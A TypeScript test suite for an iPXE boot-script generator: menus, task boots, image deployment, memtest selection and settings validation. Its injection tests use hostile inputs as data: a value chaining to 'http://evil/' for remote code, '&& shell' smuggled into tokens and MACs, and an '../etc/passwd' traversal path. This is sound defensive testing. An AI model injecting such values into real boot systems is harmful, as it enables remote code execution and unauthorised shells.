import { describe, expect, it } from 'vitest';
import { DEFAULT_BOOT_MENU, validateBootMenuSettings, type BootMenuSettings } from '../../../core/boot/boot-menu.ts';
import {
  BOOT_ENV_INITRD, bootEnvInitrdUrl, bootEnvKernelArgs, bootEnvKernelUrl, bootScriptFor, localBootCommand,
  MEMTEST_FILES, memtestFileFor, memtestUrl, TASK_BOOT_ATTEMPTS,
  type BootScriptContext, type BootTarget, type BootTask,
} from '../../../core/boot/boot-script.ts';
import { ipxeDisplayText, validateKernelArgs } from '../../../core/boot/ipxe-text.ts';
import { DomainFailure } from '../../../core/shared/result.ts';
import { MAC_A } from '../support/fixtures.ts';
import { expectResult } from '../support/given-when-then.ts';

// ---- givens

const BASE = 'http://192.0.2.1:8080';
const TOKEN = 'q1Vw_3-xZr8yTt0Pp9LmNn2Bb4Cc6Dd7';
const host = { hostId: 'host-1', hostName: 'lab-01', imageId: 'image-2' };
const deployTask: BootTask = { taskId: 'task-1', typeId: 1, typeSlug: 'deploy', typeName: 'Deploy', imageId: 'image-2' };
const IMAGES = [{ imageId: 'image-1', name: 'Windows 11 23H2' }, { imageId: 'image-2', name: 'Ubuntu 24.04' }];

const unregistered = (mac = MAC_A): BootTarget => ({ kind: 'unregistered', mac });
const registered = (overrides: Partial<typeof host> = {}): BootTarget => ({ kind: 'menu', mac: MAC_A, host: { ...host, ...overrides } });
const pendingTask = (task: Partial<BootTask> = {}, token = TOKEN, hostName = host.hostName): BootTarget => ({
  kind: 'task', mac: MAC_A, host: { ...host, hostName }, task: { ...deployTask, ...task }, token,
});

interface Situation extends Omit<Partial<BootScriptContext>, 'settings'> { settings?: Partial<BootMenuSettings> }
const context = ({ settings, ...rest }: Situation = {}): BootScriptContext => ({
  baseUrl: BASE, arch: 'x86_64', platform: 'pcbios', images: IMAGES, ...rest, settings: { ...DEFAULT_BOOT_MENU, ...settings },
});

/** given a boot decision (and the machine's situation), when the script is rendered, then... */
const given = (target: BootTarget, situation: Situation = {}) => ({
  whenRendered: () => new Script(bootScriptFor(target, context(situation))),
  whenRenderingFails: (message: RegExp, field?: string) => {
    let thrown: unknown;
    try { bootScriptFor(target, context(situation)); } catch (error) { thrown = error; }
    expect(thrown).toBeInstanceOf(DomainFailure);
    expect((thrown as DomainFailure).error).toMatchObject({ code: 'validation', ...(field === undefined ? {} : { field }) });
    expect((thrown as DomainFailure).message).toMatch(message);
  },
});

// ---- reading a script back

const COMMANDS = new Set(['menu', 'item', 'choose', 'goto', 'kernel', 'initrd', 'boot', 'imgfree', 'sanboot', 'exit', 'shell', 'echo', 'prompt', 'reboot']);

class Script {
  readonly lines: string[];
  constructor(readonly text: string) {
    this.lines = text.split('\n').slice(0, -1);
  }
  /** Lines starting with `prefix`. */
  starting(prefix: string): string[] { return this.lines.filter((line) => line.startsWith(prefix)); }
  /** The single line starting with `prefix`. */
  one(prefix: string): string {
    const found = this.starting(prefix);
    expect(found, `exactly one line starting with "${prefix}"`).toHaveLength(1);
    return found[0]!;
  }
  /** The lines of the stanza under `:label`, up to the next label. */
  stanza(label: string): string[] {
    const start = this.lines.indexOf(`:${label}`);
    expect(start, `label :${label}`).toBeGreaterThanOrEqual(0);
    const rest = this.lines.slice(start + 1);
    const end = rest.findIndex((line) => line.startsWith(':'));
    return end === -1 ? rest : rest.slice(0, end);
  }
  get labels(): string[] { return this.starting(':').map((line) => line.slice(1)); }
  /** Item labels of every menu, in order (gaps left out). */
  get items(): string[] {
    return this.starting('item ').filter((line) => !line.startsWith('item --gap')).map((line) => line.replace(/^item (--key \S+ )?/, '').split(' ')[0]!);
  }
}

const canFallThrough = (line: string): boolean =>
  !/^goto \S+$/.test(line) && !/^exit$/.test(line) && !/ \|\| (goto \S+|exit)$/.test(line);

/**
 * Structural checks iPXE would otherwise only reveal at boot: a known
 * command on every line, every jump and menu item lands on a label, labels
 * are unique, `${` appears only in `goto ${choice}`, every `&&`/`||` has a
 * command after it, and no stanza runs into the next one by accident.
 */
function expectWellFormed(script: Script): void {
  expect(script.text.startsWith('#!ipxe\n')).toBe(true);
  expect(script.text.endsWith('\n')).toBe(true);
  expect(script.text).not.toMatch(/\r/);
  const labels = script.labels;
  expect(new Set(labels).size, 'labels are unique').toBe(labels.length);
  for (const [index, line] of script.lines.entries()) {
    if (index === 0 || line.startsWith('#') || line.startsWith(':')) continue;
    for (const command of line.split(/ (?:&&|\|\|) /)) {
      expect(COMMANDS.has(command.split(' ')[0]!), `known command in "${line}"`).toBe(true);
    }
    expect(line, 'no dangling && or ||').not.toMatch(/(&&|\|\|)\s*$/);
    expect(line.replaceAll('goto ${choice}', ''), 'no setting expansion').not.toContain('$');
    for (const [, target] of line.matchAll(/goto (\S+)/g)) {
      if (target !== '${choice}') expect(labels, `goto ${target}`).toContain(target);
    }
    const defaultItem = /--default (\S+)/.exec(line)?.[1];
    if (defaultItem) expect(script.items).toContain(defaultItem);
  }
  for (const item of script.items) expect(labels, `menu item ${item}`).toContain(item);
  const first = script.lines.findIndex((line) => line.startsWith(':'));
  for (const [index, line] of script.lines.entries()) {
    // The header may run into the first label (`:menu`, `:try-1`); nothing else may.
    if (!line.startsWith(':') || index === first) continue;
    const before = script.lines[index - 1]!;
    expect(canFallThrough(before), `"${before}" runs into :${line.slice(1)}`).toBe(false);
  }
  expect(canFallThrough(script.lines.at(-1)!), 'the script ends in a jump, boot or exit').toBe(false);
}

const kernelArgs = (line: string): string[] => line.replace(/ \|\| goto \S+$/, '').split(' ').slice(2);

// ---- specs

describe('bootScriptFor: a pending task', () => {
  it('boots straight into the boot environment with the task id and token, and shows no menu', () => {
    const script = given(pendingTask()).whenRendered();
    expectWellFormed(script);
    expect(script.starting('menu')).toEqual([]);
    expect(script.starting('choose')).toEqual([]);
    expect(script.starting('item')).toEqual([]);
    const kernel = script.stanza('try-1')[1]!;
    expect(kernel.split(' ')[1]).toBe(`${BASE}/boot/env/vmlinuz`);
    expect(kernelArgs(kernel)).toEqual([
      'initrd=initrd.img', `brume.server=${BASE}`, `brume.mac=${MAC_A}`, 'brume.mode=task',
      'brume.task=task-1', `brume.token=${TOKEN}`, 'brume.action=deploy', 'brume.image=image-2',
    ]);
    expect(script.stanza('try-1')).toEqual(['imgfree', kernel, `initrd ${BASE}/boot/env/initrd.img || goto failed-1`, 'boot || goto failed-1']);
  });

  it('shows a one-line banner with the host name and the task type', () => {
    const script = given(pendingTask()).whenRendered();
    expect(script.starting('echo')[0]).toBe('echo brume: lab-01 - Deploy');
  });

  it('retries a failed load after a pause, then falls back to the local disk', () => {
    const script = given(pendingTask()).whenRendered();
    expect(script.starting('kernel')).toHaveLength(TASK_BOOT_ATTEMPTS);
    expect(script.stanza('failed-1')).toEqual([
      'echo brume: could not load the boot environment (attempt 1 of 3)',
      'prompt --timeout 10000 brume: retrying in 10 seconds (any key retries now) || goto try-2',
      'goto try-2',
    ]);
    expect(script.stanza('failed-3').slice(1)).toEqual([
      'prompt --timeout 10000 brume: booting from the local disk in 10 seconds, the task stays pending || goto local',
      'goto local',
    ]);
  });

  it('leaves out brume.image when the task has no image, and appends the admin kernel arguments', () => {
    const script = given(pendingTask({ typeSlug: 'inventory', typeName: 'Hardware Inventory', imageId: null }), {
      settings: { kernelArgs: 'quiet  console=ttyS0,115200n8' },
    }).whenRendered();
    expect(kernelArgs(script.starting('kernel')[0]!)).toEqual([
      'initrd=initrd.img', `brume.server=${BASE}`, `brume.mac=${MAC_A}`, 'brume.mode=task',
      'brume.task=task-1', `brume.token=${TOKEN}`, 'brume.action=inventory', 'quiet', 'console=ttyS0,115200n8',
    ]);
  });

  it('boots memtest86+ itself for a memory test task, with no token on any line', () => {
    const script = given(pendingTask({ typeId: 4, typeSlug: 'memtest', typeName: 'Memory Test', imageId: null }), { platform: 'efi' }).whenRendered();
    expectWellFormed(script);
    expect(script.stanza('try-1')).toEqual(['imgfree', `kernel ${BASE}/boot/files/memtest/memtest86+x64.efi || goto failed-1`, 'boot || goto failed-1']);
    expect(script.text).not.toContain(TOKEN);
  });

  it('explains and boots the local disk when there is no memory test for the platform', () => {
    const script = given(pendingTask({ typeSlug: 'memtest', typeName: 'Memory Test' }), { arch: 'arm64', platform: 'efi' }).whenRendered();
    expectWellFormed(script);
    expect(script.starting('kernel')).toEqual([]);
    expect(script.text).toContain('echo brume: no memory test for this machine (arm64 efi)');
    expect(script.lines.at(-1)).toBe('exit');
  });
});

describe('bootScriptFor: a registered host with no task', () => {
  it('offers local disk, deploy, quick inventory, memory test, shell and reboot; the local disk after 5 s by default', () => {
    const script = given(registered()).whenRendered();
    expectWellFormed(script);
    expect(script.one('menu brume: lab-01')).toBe(`menu brume: lab-01 (${MAC_A})`);
    expect(script.items.slice(0, 6)).toEqual(['local', 'images', 'inventory', 'memtest', 'shell', 'reboot']);
    expect(script.lines[2]).toBe(':menu');
    expect(script.starting('choose')[0]).toBe('choose --timeout 5000 --default local choice && goto ${choice} || goto local');
  });

  it('turns the configured timeout into milliseconds', () => {
    const script = given(registered(), { settings: { timeoutSeconds: 12 } }).whenRendered();
    expect(script.starting('choose')[0]).toMatch(/^choose --timeout 12000 --default local /);
  });

  it('waits for a choice when the timeout is 0', () => {
    const script = given(registered(), { settings: { timeoutSeconds: 0 } }).whenRendered();
    expect(script.starting('choose')[0]).toBe('choose --default local choice && goto ${choice} || goto local');
  });

  it('runs a quick inventory in the boot environment', () => {
    const script = given(registered()).whenRendered();
    const kernel = script.stanza('inventory')[1]!;
    expect(kernelArgs(kernel)).toEqual(['initrd=initrd.img', `brume.server=${BASE}`, `brume.mac=${MAC_A}`, 'brume.mode=inventory']);
    expect(kernel).toMatch(/ \|\| goto env-failed$/);
    expect(script.stanza('env-failed')).toEqual([
      'echo brume: could not load the boot environment',
      'prompt --timeout 10000 brume: returning to the menu in 10 seconds || goto menu',
      'goto menu',
    ]);
  });

  it('leaves the shell back into the menu', () => {
    expect(given(registered()).whenRendered().stanza('shell')).toEqual(['echo brume: type exit to return to the menu', 'shell', 'goto menu']);
  });
});

describe('bootScriptFor: deploy an image', () => {
  it('lists the images in a submenu whose default is the way back, marking the host\'s own image', () => {
    const script = given(registered()).whenRendered();
    const images = script.stanza('images');
    expect(images).toContain('item image-image-1 Windows 11 23H2');
    expect(images).toContain('item image-image-2 Ubuntu 24.04 (assigned to this host)');
    expect(images).toContain('item --key b menu Back to the main menu');
    expect(images.at(-1)).toBe('choose --timeout 5000 --default menu choice && goto ${choice} || goto menu');
  });

  it('boots the boot environment to deploy the chosen image', () => {
    const script = given(registered()).whenRendered();
    expect(kernelArgs(script.stanza('image-image-1')[1]!)).toEqual([
      'initrd=initrd.img', `brume.server=${BASE}`, `brume.mac=${MAC_A}`, 'brume.mode=deploy-image', 'brume.image=image-1',
    ]);
  });

  it('lists an image given twice once', () => {
    const script = given(registered(), { images: [...IMAGES, IMAGES[0]!] }).whenRendered();
    expectWellFormed(script);
    expect(script.starting('item image-')).toHaveLength(2);
  });

  it('shows a note instead of the submenu when there are no images', () => {
    const script = given(registered(), { images: [] }).whenRendered();
    expectWellFormed(script);
    expect(script.labels).not.toContain('images');
    expect(script.text).toContain('item --gap -- Deploy an image: no images on this server yet');
  });
});

describe('bootScriptFor: hidden menu', () => {
  it('boots the local disk unless ESC is pressed within the timeout', () => {
    const script = given(registered(), { settings: { hidden: true, timeoutSeconds: 3 } }).whenRendered();
    expectWellFormed(script);
    expect(script.lines.slice(2, 4)).toEqual(['prompt --key 0x1b --timeout 3000 brume: press ESC for the boot menu && goto menu || goto local', ':menu']);
  });

  it('boots the local disk at once when the timeout is 0', () => {
    const script = given(unregistered(), { settings: { hidden: true, timeoutSeconds: 0 } }).whenRendered();
    expectWellFormed(script);
    expect(script.lines[2]).toBe('goto local');
  });
});

describe('bootScriptFor: an unknown MAC', () => {
  it('offers the registration menu: local disk by default, quick and full registration, memory test, shell', () => {
    const script = given(unregistered()).whenRendered();
    expectWellFormed(script);
    expect(script.one('menu')).toBe(`menu brume: unregistered machine ${MAC_A}`);
    expect(script.items).toEqual(['local', 'quick-register', 'register', 'memtest', 'shell']);
    expect(script.starting('choose')[0]).toMatch(/--default local choice/);
    expect(kernelArgs(script.stanza('quick-register')[1]!)).toContain('brume.mode=quick-register');
    expect(kernelArgs(script.stanza('register')[1]!)).toContain('brume.mode=register');
    expect(script.text).not.toContain('brume.token=');
  });

  it('offers no memory test where there is none to run', () => {
    const script = given(unregistered(), { arch: 'arm64', platform: 'efi' }).whenRendered();
    expectWellFormed(script);
    expect(script.items).not.toContain('memtest');
    expect(script.labels).not.toContain('memtest-failed');
  });
});

describe('bootScriptFor: the way to the local disk', () => {
  it.each([
    ['auto', 'pcbios', 'sanboot --no-describe --drive 0x80 || exit'],
    ['auto', 'efi', 'exit'],
    ['auto', null, 'exit'],
    ['auto', 'something-new', 'exit'],
    ['exit', 'pcbios', 'exit'],
    ['sanboot', 'efi', 'sanboot --no-describe --drive 0x80 || exit'],
  ] as const)('exit type %s on platform %s ends with "%s"', (exitType, platform, last) => {
    const script = given(registered(), { platform, settings: { exitType } }).whenRendered();
    expect(script.stanza('local')).toEqual(['echo brume: booting from the local disk', last]);
    expect(localBootCommand(exitType, platform)).toBe(last.split(' ')[0]);
  });
});

describe('bootScriptFor: values that could change the script', () => {
  const NASTY = 'x ${net0/mac} && shell || goto local ; #c\nchain http://evil/';

  it('rewrites host and image names so they are only ever shown', () => {
    const plain = given(registered(), { images: [{ imageId: 'image-1', name: 'plain' }] }).whenRendered();
    const script = given(registered({ hostName: NASTY }), { images: [{ imageId: 'image-1', name: NASTY }] }).whenRendered();
    expectWellFormed(script);
    expect(script.lines).toHaveLength(plain.lines.length);
    expect(script.starting('chain')).toEqual([]);
    const title = script.one('menu brume: x');
    expect(title).not.toMatch(/[${}#;&|]/);
    const item = script.one('item image-image-1');
    expect(item).not.toMatch(/[${}#;&|]/);
    expect(item.startsWith('item image-image-1 x __net0/mac_ __ shell __ goto local _ _c')).toBe(true);
  });

  it('rewrites the host name and task type in the task banner', () => {
    const script = given(pendingTask({ typeName: 'Deploy\n#!ipxe' }, TOKEN, NASTY)).whenRendered();
    expectWellFormed(script);
    const banner = script.starting('echo')[0]!;
    expect(banner).not.toMatch(/[${}#;&|]/);
    expect(script.lines.filter((line) => line.startsWith('#'))).toHaveLength(2);
  });

  it.each([
    ['a task id with a space', pendingTask({ taskId: 'task 1' }), 'taskId'],
    ['a task id with a setting', pendingTask({ taskId: '${x}' }), 'taskId'],
    ['an empty task id', pendingTask({ taskId: '' }), 'taskId'],
    ['a token with &&', pendingTask({}, 'abc&&shell'), 'token'],
    ['a token with a newline', pendingTask({}, 'abc\nshell'), 'token'],
    ['a token with #', pendingTask({}, 'abc#x'), 'token'],
    ['a type slug with ||', pendingTask({ typeSlug: 'deploy||shell' }), 'typeSlug'],
    ['a task image id with a space', pendingTask({ imageId: 'image 2' }), 'imageId'],
    ['an upper-case MAC', { kind: 'unregistered', mac: MAC_A.toUpperCase() } as BootTarget, 'mac'],
    ['a MAC with a trailing command', { kind: 'unregistered', mac: `${MAC_A} && shell` } as BootTarget, 'mac'],
  ])('throws on %s', (_case, target, field) => {
    given(target).whenRenderingFails(/must be/, field);
  });

  it('never quotes a bad token back', () => {
    let message = '';
    try { bootScriptFor(pendingTask({}, 'secret value'), context()); } catch (error) { message = (error as Error).message; }
    expect(message).toMatch(/^token must be/);
    expect(message).not.toContain('secret');
  });

  it('throws on an image id that could break the image menu', () => {
    given(registered(), { images: [{ imageId: 'a\n:menu', name: 'x' }] }).whenRenderingFails(/imageId must be/, 'imageId');
  });

  it.each([
    ['a trailing slash', 'http://192.0.2.1:8080/'],
    ['a space', 'http://192.0.2.1:8080 && shell'],
    ['a query', 'http://192.0.2.1:8080/?a=${b}'],
    ['another scheme', 'tftp://192.0.2.1'],
  ])('throws on a base URL with %s', (_case, baseUrl) => {
    given(unregistered(), { baseUrl }).whenRenderingFails(/baseUrl must be/, 'baseUrl');
  });

  it.each([
    ['a setting', 'ip=${ip}', /may only hold/],
    ['a command separator', 'quiet && shell', /may only hold/],
    ['a comment', 'quiet #x', /may only hold/],
    ['a line break', 'quiet\nshell', /line breaks/],
    ['a brume argument', 'brume.token=forged', /reserved for brume/],
  ])('throws on admin kernel arguments with %s', (_case, kernelArgs, message) => {
    given(unregistered(), { settings: { kernelArgs } }).whenRenderingFails(message, 'kernelArgs');
  });

  it.each([
    ['a fractional timeout', { timeoutSeconds: 2.5 }, 'timeoutSeconds'],
    ['a negative timeout', { timeoutSeconds: -1 }, 'timeoutSeconds'],
    ['an unknown exit type', { exitType: 'grub' as 'exit' }, 'exitType'],
  ])('throws on settings with %s', (_case, settings, field) => {
    given(unregistered(), { settings }).whenRenderingFails(/must be/, field);
  });
});

describe('bootScriptFor: output', () => {
  it('is the same text every time, with LF line endings', () => {
    const render = () => bootScriptFor(registered(), context());
    expect(render()).toBe(render());
    expect(render()).not.toContain('\r');
  });

  it.each([
    ['task', pendingTask()],
    ['menu', registered()],
    ['unregistered', unregistered()],
  ] as const)('is well formed for a %s on BIOS, EFI and an unknown platform, visible and hidden', (_kind, target) => {
    for (const platform of ['pcbios', 'efi', null]) {
      for (const hidden of [false, true]) {
        expectWellFormed(given(target, { platform, settings: { hidden } }).whenRendered());
      }
    }
  });
});

describe('the well-formedness check itself', () => {
  it.each([
    ['a jump to a missing label', '#!ipxe\n:menu\ngoto nowhere\n'],
    ['a menu item with no label', '#!ipxe\n:menu\nitem lost Lost\nchoose c && goto ${c} || goto menu\n'],
    ['a stanza running into the next', '#!ipxe\n:menu\ngoto a\n:a\necho a\n:b\nexit\n'],
    ['a setting expansion', '#!ipxe\n:menu\necho ${x}\nexit\n'],
    ['a dangling ||', '#!ipxe\n:menu\nboot ||\n'],
    ['an unknown command', '#!ipxe\n:menu\nchain http://evil/\nexit\n'],
    ['a duplicate label', '#!ipxe\n:menu\ngoto menu\n:menu\nexit\n'],
  ])('catches %s', (_case, text) => {
    expect(() => expectWellFormed(new Script(text))).toThrow();
  });
});

describe('boot file URLs', () => {
  it('put the boot environment under /boot/env', () => {
    expect(bootEnvKernelUrl(BASE)).toBe('http://192.0.2.1:8080/boot/env/vmlinuz');
    expect(bootEnvInitrdUrl(BASE)).toBe('http://192.0.2.1:8080/boot/env/initrd.img');
    expect(bootEnvInitrdUrl(BASE).endsWith(`/${BOOT_ENV_INITRD}`)).toBe(true);
  });

  it('keep a path in the base URL', () => {
    expect(bootEnvKernelUrl('https://boot.example/brume')).toBe('https://boot.example/brume/boot/env/vmlinuz');
  });

  it('put memtest86+ under /boot/files/memtest, and only the files brume serves', () => {
    expect(memtestUrl(BASE, MEMTEST_FILES.efiX64)).toBe('http://192.0.2.1:8080/boot/files/memtest/memtest86+x64.efi');
    expect(() => memtestUrl(BASE, '../etc/passwd' as typeof MEMTEST_FILES.efiX64)).toThrow(DomainFailure);
  });

  it('refuse a base URL iPXE could not use', () => {
    expect(() => bootEnvKernelUrl('http://192.0.2.1:8080/')).toThrow(/no query, spaces or trailing slash/);
  });

  it.each([
    ['x86_64', 'efi', 'memtest86+x64.efi'],
    ['i386', 'efi', 'memtest86+ia32.efi'],
    ['x86_64', 'pcbios', 'memtest86+x64.bin'],
    ['i386', 'pcbios', 'memtest86+ia32.bin'],
    [null, 'pcbios', 'memtest86+ia32.bin'],
    [null, 'efi', null],
    ['arm64', 'efi', null],
    ['x86_64', null, null],
  ] as const)('pick memtest for %s on %s: %s', (arch, platform, file) => {
    expect(memtestFileFor(arch, platform)).toBe(file);
  });
});

describe('bootEnvKernelArgs', () => {
  it('puts initrd, server, MAC and purpose first and the admin arguments last', () => {
    expect(bootEnvKernelArgs(BASE, MAC_A, { mode: 'deploy-image', imageId: 'image-1' }, 'quiet')).toBe(
      `initrd=initrd.img brume.server=${BASE} brume.mac=${MAC_A} brume.mode=deploy-image brume.image=image-1 quiet`,
    );
  });
});

describe('validateBootMenuSettings', () => {
  it('accepts the defaults and normalises kernel arguments', () => {
    expectResult(validateBootMenuSettings(DEFAULT_BOOT_MENU)).then({ timeoutSeconds: 5, hidden: false, exitType: 'auto', kernelArgs: '' });
    expectResult(validateBootMenuSettings({ ...DEFAULT_BOOT_MENU, kernelArgs: ' quiet  nomodeset ' })).thenMatches({ kernelArgs: 'quiet nomodeset' });
  });

  it.each([
    ['timeoutSeconds', { timeoutSeconds: 3601 }],
    ['hidden', { hidden: 'yes' }],
    ['exitType', { exitType: 'refind' }],
    ['kernelArgs', { kernelArgs: '$' }],
  ])('refuses a bad %s', (field, change) => {
    expectResult(validateBootMenuSettings({ ...DEFAULT_BOOT_MENU, ...change })).thenFails({ code: 'validation', field });
  });
});

describe('ipxe text helpers', () => {
  it.each([
    ['keeps an ordinary name', 'Windows 11 (23H2) v1.2', 'Windows 11 (23H2) v1.2'],
    ['flattens line breaks and tabs', 'a\r\n\tb', 'a b'],
    ['rewrites setting expansion', '${net0/ip}', '__net0/ip_'],
    ['rewrites separators and comments', 'a && b || c ; #d', 'a __ b __ c _ _d'],
    ['rewrites non-ASCII', 'Büro', 'B_ro'],
    ['never returns nothing', ' \n ', '(no name)'],
  ])('ipxeDisplayText %s', (_case, input, output) => {
    expect(ipxeDisplayText(input)).toBe(output);
  });

  it('cuts long names', () => {
    expect(ipxeDisplayText('x'.repeat(100), 10)).toBe('xxxxxxx...');
  });

  it('validateKernelArgs accepts an empty value and refuses non-text', () => {
    expectResult(validateKernelArgs(undefined)).then('');
    expectResult(validateKernelArgs(42)).thenFails({ code: 'validation', field: 'kernelArgs', message: 'kernelArgs must be text' });
    expectResult(validateKernelArgs('x'.repeat(1025))).thenFails({ code: 'validation', message: /longer than 1024/ });
  });
});
